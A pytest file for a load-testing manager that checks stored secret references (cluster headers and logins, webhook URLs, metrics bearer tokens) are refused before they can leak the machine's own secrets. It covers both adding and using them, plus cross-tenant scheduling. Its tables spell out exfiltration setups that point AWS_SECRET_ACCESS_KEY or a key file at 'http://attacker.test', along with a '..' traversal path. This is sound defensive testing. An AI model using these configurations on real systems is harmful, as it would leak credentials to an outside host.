"""Issue 21, item 7: a stored secret reference (a cluster's header or login, a webhook's URL)
is read only as far as the machine reading it allows, so whoever writes the database
cannot make a ticking machine send its own secrets (`AWS_SECRET_ACCESS_KEY`, a key
file) to a URL they chose. Every kind of reference, table-driven."""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import responses

from loadmgr.errors import ClusterError, ValidationFailed
from loadmgr.locust.client import LocustClient
from loadmgr.models import ClusterAuth, LocustCluster, ServerSource
from loadmgr.models.notifications import Notification
from loadmgr.secret_refs import (
    SecretRefused,
    check_env_reference,
    check_file_reference,
)
from loadmgr.store.embedded import free_port
from loadmgr.webhooks import webhook_url
from tests.conftest import CliResult, create_test_argv, error_line
from tests.secret_allowance import allow_secrets
from tests.unit.test_cli_unit import Captured, locustfile, mock_store  # noqa: F401 - fixtures

Cli = Callable[..., CliResult]
VALUE = "AKIA-the-machines-own-secret"
ATTACKER = "http://attacker.test"

# Every stored field that names an environment variable or a file a secret is read from.
# A new one must be added here (test_the_table_names_every_reference_field).
STORED_REFERENCES = {
    ("ClusterAuth", "secretEnv"),
    ("ClusterAuth", "secretFile"),
    ("ClusterAuth", "usernameEnv"),
    ("ClusterAuth", "passwordEnv"),
    ("Notification", "webhookEnv"),
    ("Notification", "webhookFile"),
    ("ServerSource", "bearerTokenEnv"),
    ("ServerSource", "bearerTokenFile"),
    ("ServerSource", "headerEnv"),
}


def test_the_table_names_every_reference_field() -> None:
    found = {
        (model.__name__, name)
        for model in (ClusterAuth, LocustCluster, Notification, ServerSource)
        for name in model.model_fields
        if name.endswith(("Env", "File"))
    }
    assert found == STORED_REFERENCES


@pytest.fixture
def machine_secrets(monkeypatch: pytest.MonkeyPatch, isolated_env: Path) -> Path:
    """This machine's secrets: a variable and a file no reference is allowed to reach."""
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", VALUE)
    private = isolated_env.parent / "private"
    private.mkdir()
    (private / "key").write_text(VALUE + "\n")
    return private / "key"


# -- when it is added: exit 2 naming the reference, nothing stored ---------------------

ADD_REFUSALS = [
    # (argv after the command, the reference the error must name)
    (("clusters", "add", "evil", "--url", ATTACKER, "--header-name", "X-Leak",
      "--header-env", "AWS_SECRET_ACCESS_KEY"), "AWS_SECRET_ACCESS_KEY"),
    (("clusters", "add", "evil", "--url", ATTACKER, "--header-name", "X-Leak",
      "--header-file", "{key}"), "{key}"),
    (("clusters", "add", "evil", "--url", ATTACKER, "--login-user-env", "LOADMGR_SECRET_U",
      "--login-password-env", "AWS_SECRET_ACCESS_KEY"), "AWS_SECRET_ACCESS_KEY"),
    (("clusters", "add", "evil", "--url", ATTACKER, "--login-user-env", "AWS_SECRET_ACCESS_KEY",
      "--login-password-env", "LOADMGR_SECRET_P"), "AWS_SECRET_ACCESS_KEY"),
    (("notify", "add", "evil", "--webhook-env", "AWS_SECRET_ACCESS_KEY"), "AWS_SECRET_ACCESS_KEY"),
    (("notify", "add", "evil", "--webhook-file", "{key}"), "{key}"),
    (("sources", "add", "evil", "--prometheus", ATTACKER, "--bearer-token-env",
      "AWS_SECRET_ACCESS_KEY"), "AWS_SECRET_ACCESS_KEY"),
    (("sources", "add", "evil", "--prometheus", ATTACKER, "--bearer-token-file", "{key}"),
     "{key}"),
    (("sources", "add", "evil", "--prometheus", ATTACKER, "--header-name", "X-Leak",
      "--header-env", "AWS_SECRET_ACCESS_KEY"), "AWS_SECRET_ACCESS_KEY"),
    # `..` climbing out of an allowed directory.
    (("notify", "add", "evil", "--webhook-file", "{home}/secrets/../../private/key"), "'..'"),
]  # fmt: skip


@pytest.mark.parametrize(("argv", "named"), ADD_REFUSALS)
def test_a_reference_this_machine_does_not_allow_is_refused_when_added(
    cli: Cli,
    mock_store: Captured,  # noqa: F811
    machine_secrets: Path,
    isolated_env: Path,
    argv: tuple[str, ...],
    named: str,
) -> None:
    fill = {"key": str(machine_secrets), "home": str(isolated_env)}
    result = cli(*(arg.format(**fill) for arg in argv))
    line = error_line(result, 2)
    assert named.format(**fill) in line and "allow" in line
    assert VALUE not in result.stdout + result.stderr
    if mock_store.client is not None:
        db = mock_store.client["loadmgr"]
        assert db.locust_clusters.count_documents({}) == 0
        assert db.notifications.count_documents({}) == 0
        assert db.server_sources.count_documents({}) == 0


def test_what_a_machine_allows_is_accepted(
    monkeypatch: pytest.MonkeyPatch, isolated_env: Path, tmp_path: Path
) -> None:
    assert check_env_reference("LOADMGR_SECRET_LOCUST_TOKEN", "x") == "LOADMGR_SECRET_LOCUST_TOKEN"
    with pytest.raises(SecretRefused):
        check_env_reference("LOCUST_TOKEN", "x")
    allow_secrets(monkeypatch, "LOCUST_TOKEN", "SLACK_HOOK")
    assert check_env_reference("LOCUST_TOKEN", "x") == "LOCUST_TOKEN"
    inside = isolated_env / "secrets" / "token"
    assert check_file_reference(str(inside), "x") == inside
    with pytest.raises(SecretRefused):
        check_file_reference(str(tmp_path / "token"), "x")
    with pytest.raises(SecretRefused):  # the directory itself is no file in it
        check_file_reference(str(isolated_env / "secrets"), "x")
    allow_secrets(monkeypatch, directory=tmp_path)
    assert check_file_reference(str(tmp_path / "token"), "x") == tmp_path / "token"


# -- when it is used: refused before anything is read or sent --------------------------


def _cluster(auth: dict[str, Any]) -> LocustCluster:
    return LocustCluster(id="evil", baseUrl=ATTACKER, auth=ClusterAuth(**auth))


def _use_cluster(auth: dict[str, Any]) -> None:
    with responses.RequestsMock(assert_all_requests_are_fired=False) as mock:
        mock.get(f"{ATTACKER}/stats/requests", json={})
        try:
            LocustClient.from_cluster(_cluster(auth)).stats()
        finally:
            assert len(mock.calls) == 0  # nothing sent to the attacker's URL


USE_REFUSALS = [
    ({"type": "header", "headerName": "X-Leak", "secretEnv": "AWS_SECRET_ACCESS_KEY"},
     "AWS_SECRET_ACCESS_KEY"),
    ({"type": "header", "headerName": "X-Leak", "secretFile": "{key}"}, "{key}"),
    ({"type": "login", "usernameEnv": "AWS_SECRET_ACCESS_KEY", "passwordEnv": "LOADMGR_SECRET_P"},
     "AWS_SECRET_ACCESS_KEY"),
    ({"type": "login", "usernameEnv": "LOADMGR_SECRET_U", "passwordEnv": "AWS_SECRET_ACCESS_KEY"},
     "AWS_SECRET_ACCESS_KEY"),
]  # fmt: skip


@pytest.mark.parametrize(("auth", "named"), USE_REFUSALS)
def test_a_stored_cluster_reference_is_refused_before_any_request(
    monkeypatch: pytest.MonkeyPatch, machine_secrets: Path, auth: dict[str, Any], named: str
) -> None:
    monkeypatch.setenv("LOADMGR_SECRET_U", "u")
    monkeypatch.setenv("LOADMGR_SECRET_P", "p")
    auth = {k: v.format(key=machine_secrets) for k, v in auth.items()}
    with pytest.raises(ClusterError) as caught:
        _use_cluster(auth)
    assert named.format(key=machine_secrets) in caught.value.message
    assert VALUE not in caught.value.message and "\n" not in caught.value.message
    # The same check refuses it when a run is planned: exit 2, nothing stored.
    from loadmgr.locust.auth import check_references

    with pytest.raises(SecretRefused):
        check_references(ClusterAuth(**auth))


@pytest.mark.parametrize("field", ["webhookEnv", "webhookFile"])
def test_a_stored_webhook_reference_is_refused_before_it_is_read(
    machine_secrets: Path, field: str
) -> None:
    reference = "AWS_SECRET_ACCESS_KEY" if field == "webhookEnv" else str(machine_secrets)
    env, file = (reference, None) if field == "webhookEnv" else (None, reference)
    with pytest.raises(SecretRefused) as caught:
        webhook_url(env, file)
    assert reference in caught.value.message and VALUE not in caught.value.message


@pytest.mark.parametrize("field", ["bearerTokenEnv", "bearerTokenFile", "headerEnv"])
@responses.activate
def test_a_stored_source_reference_is_refused_before_any_request(
    machine_secrets: Path, field: str
) -> None:
    from loadmgr.errors import SourceError
    from loadmgr.service.server_metrics.sources import client_for

    reference = str(machine_secrets) if field.endswith("File") else "AWS_SECRET_ACCESS_KEY"
    extra = {"headerName": "X-Leak"} if field == "headerEnv" else {}
    source = ServerSource(id="evil", baseUrl=ATTACKER, **{field: reference}, **extra)
    with pytest.raises(SourceError) as caught:
        client_for(source).query("up")
    assert reference in caught.value.message and VALUE not in caught.value.message
    assert len(responses.calls) == 0


def test_another_tenants_cluster_never_gets_this_machines_secret_from_a_tick(
    cli: Cli,
    mock_store: Captured,  # noqa: F811
    machine_secrets: Path,
    locustfile: Path,  # noqa: F811
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The reproduction: in another tenant, `clusters add evil --header-env
    AWS_SECRET_ACCESS_KEY`, a test and a schedule every minute; the shared, unscoped
    `schedules tick` sent the variable to the attacker's URL."""
    attacker = f"http://127.0.0.1:{free_port()}"
    with monkeypatch.context() as theirs:  # the writer's own machine allows anything
        allow_secrets(theirs, "AWS_SECRET_ACCESS_KEY")
        evil = ["--tenant", "evil"]
        for argv in (
            ("clusters", "add", "evil", "--url", attacker, "--header-name", "X-Leak",
             "--header-env", "AWS_SECRET_ACCESS_KEY"),
            create_test_argv("leak", "http://127.0.0.1:1", locustfile, "--cluster", "evil"),
            ("schedules", "add", "leak", "--cron", "* * * * *"),
        ):  # fmt: skip
            assert cli(*evil, *argv).exit_code == 0
    assert mock_store.client is not None
    db = mock_store.client["loadmgr"]
    slot = db.schedules.find_one({})["nextSlotAt"]
    with responses.RequestsMock(assert_all_requests_are_fired=False) as mock:
        result = cli("schedules", "tick", "--now", (slot + timedelta(seconds=2)).isoformat(),
                     "-o", "json")  # fmt: skip
        assert len(mock.calls) == 0
    assert result.exit_code == 0, result.stderr
    [handled] = json.loads(result.stdout)
    assert handled["outcome"] == "error" and "AWS_SECRET_ACCESS_KEY" in handled["reason"]
    assert db.load_test_runs.count_documents({}) == 0
    assert VALUE not in result.stdout + result.stderr


def test_refusal_is_a_usage_error() -> None:
    assert issubclass(SecretRefused, ValidationFailed)
